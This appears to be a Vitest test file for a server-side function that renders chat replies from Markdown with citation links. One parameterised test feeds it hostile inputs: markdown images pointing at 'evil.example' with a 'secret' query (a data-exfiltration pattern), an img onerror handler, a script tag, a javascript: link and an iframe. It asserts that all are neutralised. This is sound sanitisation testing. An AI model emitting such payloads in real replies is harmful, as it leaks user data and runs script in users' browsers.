import { describe, expect, it } from "vitest";
import { renderReply } from "./render-reply.server";

const render = (content: string, citations = [{ fileId: "f1", page: 3, quote: "a & b" }]) =>
  renderReply({ content, citations });

describe("renderReply", () => {
  it("renders Markdown", () => {
    expect(render("**Yes.**\n\n- one\n- two")).toContain("<strong>Yes.</strong>");
    expect(render("- one\n- two")).toMatch(/<ul>\s*<li>one<\/li>/);
  });

  it("links markers to their passages, and leaves those that cite nothing", () => {
    const html = render("So it is [1], not [2].");
    expect(html).toContain('href="/app/docs?fileId=f1&amp;quote=a+%26+b&amp;page=3#quote"');
    expect(html).toContain("not [2].");
  });

  it("leaves markers in code alone", () => {
    expect(render("`a[1]`")).toContain("<code>a[1]</code>");
  });

  it.each([
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    '<img src="https://evil.example" onerror="alert(1)">',
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "<iframe src='https://evil.example'></iframe>",
  ])("lets nothing load or run: %s", (content) => {
    const html = render(content);
    expect(html).not.toMatch(/<(img|script|iframe|svg|style)\b/i);
    expect(html).not.toMatch(/<[^>]*\son\w+=/i);
    expect(html).not.toMatch(/href="javascript/i);
  });
});
